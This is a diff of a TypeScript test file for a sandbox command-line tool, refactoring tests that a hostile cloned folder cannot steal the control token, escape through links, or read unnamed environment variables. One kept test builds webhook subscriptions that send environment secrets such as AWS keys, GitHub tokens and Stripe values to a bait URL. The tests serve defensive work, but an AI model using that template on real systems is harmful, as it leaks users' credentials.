@@ -1,26 +1,17 @@
 // A folder that somebody else has made, with baits for whoever types a command in it: a listener that wants the token, options that reach
 // out of the folder, links, escape characters. Each has one outcome; nothing is sent before a proof, and nothing outside is changed.
 import { execFileSync } from "node:child_process";
-import {
-  mkdirSync,
-  mkdtempSync,
-  readdirSync,
-  readFileSync,
-  realpathSync,
-  rmSync,
-  statSync,
-  symlinkSync,
-  writeFileSync,
-} from "node:fs";
+import { mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
 import type { IncomingMessage, ServerResponse } from "node:http";
-import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
 import { startOwnSandbox } from "../../src/cli/own-sandbox.ts";
 import { explainNotPlayed } from "../../src/stories/scenario/index.ts";
+import { ask } from "../ask.ts";
 import { runHere } from "../cli/in-process.ts";
 import { startSandboxCommand } from "../cli/run-sandbox.ts";
 import { type LocalServer, startLocalServer } from "../local-server.ts";
+import { makeTempFolder } from "../temp-folder.ts";
 
 const TOKEN = "the-token-of-the-victim";
 const VICTIM = "my only copy\n";
@@ -52,12 +43,11 @@ let clone: string;
 beforeEach(() => {
   heard = [];
   reply = (_, response) => void response.writeHead(401, { "content-type": "application/json" }).end("{}");
-  root = realpathSync(mkdtempSync(join(tmpdir(), "sandbox-clone-")));
+  root = makeTempFolder();
   clone = join(root, "clone");
   write("outside/victim.txt", VICTIM);
   write("outside/server.json", VICTIM);
   write("clone/package.json", "{}");
-  return () => rmSync(root, { recursive: true, force: true });
 });
 
 function write(path: string, text: string): void {
@@ -146,7 +136,7 @@ describe("A server in server.json gets one request, and no token, if it responds
   });
 
   it("the response of the real sandbox: a proof for another address is rejected", async () => {
-    const home = mkdtempSync(join(root, "home-"));
+    const home = makeTempFolder();
     const real = startSandboxCommand(
       ["start", "--memory", "--port", "0", "--json"],
       { SANDBOX_CONTROL_TOKEN: TOKEN },
@@ -154,20 +144,14 @@ describe("A server in server.json gets one request, and no token, if it responds
     );
     const { url } = JSON.parse(await real.shows("}\n")) as { url: string };
     const authorization = `Bearer ${TOKEN}`;
-    const about = await fetch(`${url}/_sandbox`, { headers: { authorization } });
-    const { instance } = (await about.json()) as { instance: string };
-    const ask = async (address: string, challenge: string) => {
-      const headers = { "content-type": "application/json" };
-      return fetch(`${url}/_sandbox/proof`, { method: "POST", headers, body: JSON.stringify({ address, challenge }) });
-    };
+    const { instance } = (await ask("get", `${url}/_sandbox`, { authorization })).body;
+    const requestProof = (address: string, challenge: string) =>
+      ask("post", `${url}/_sandbox/proof`, {}, { address, challenge });
     const answers: number[] = [];
     reply = async (_, response, body) => {
-      const { address, challenge = "x".repeat(43) } = JSON.parse(body || "{}") as {
-        address?: string;
-        challenge?: string;
-      };
-      answers.push((await ask(address ?? bait, challenge)).status);
-      const { proof } = (await (await ask(url, challenge)).json()) as { proof: string };
+      const { address = bait, challenge = "x".repeat(43) } = JSON.parse(body || "{}");
+      answers.push((await requestProof(address, challenge)).status);
+      const { proof } = (await requestProof(url, challenge)).body;
       json(response, 200, { instance, proof });
     };
     namesServer({ instance });
@@ -177,8 +161,7 @@ describe("A server in server.json gets one request, and no token, if it responds
     expect(JSON.stringify(heard)).not.toContain(TOKEN);
     // The same command beside the real one needs no word.
     expect(await typedIn(home, ["clock"])).toMatchObject({ code: 0, stderr: expect.not.stringContaining("not sent") });
-    real.child.kill("SIGTERM");
-    await real.ended;
+    await real.stop();
   });
 });
 
@@ -342,17 +325,9 @@ describe.skipIf(process.platform === "win32")("A link or a path can't leave the 
 
 describe("A scenario reads only the variables that the user names:", () => {
   const VARIABLES = [
-    ...[
-      "SANDBOX_CONTROL_TOKEN",
-      "SANDBOX_CLIENT_SECRET",
-      "SANDBOX_WEBHOOK_SECRET",
-      "AWS_ACCESS_KEY_ID",
-      "GH_PAT",
-      "DBPW",
-    ],
-    ...["JWT", "PIN", "SSH", "PGP", "OTP", "SALT", "SEED", "SID", "CACHE_URL", "STRIPE", "BACKUP", "TENANT", "CONN"],
-    ...["HOME", "PATH", "USER"],
-  ];
+    "SANDBOX_CONTROL_TOKEN SANDBOX_CLIENT_SECRET SANDBOX_WEBHOOK_SECRET AWS_ACCESS_KEY_ID GH_PAT DBPW",
+    "JWT PIN SSH PGP OTP SALT SEED SID CACHE_URL STRIPE BACKUP TENANT CONN HOME PATH USER",
+  ].flatMap((names) => names.split(" "));
   const subscribe = (name: string) =>
     `  - { name: it sends ${name}, call: createWebhookSubscription, with: { url: "${bait}/\${env.${name}}", event_types: [v1.event.updated], state: ENABLED } }\n`;
   const story = (...names: readonly string[]) =>
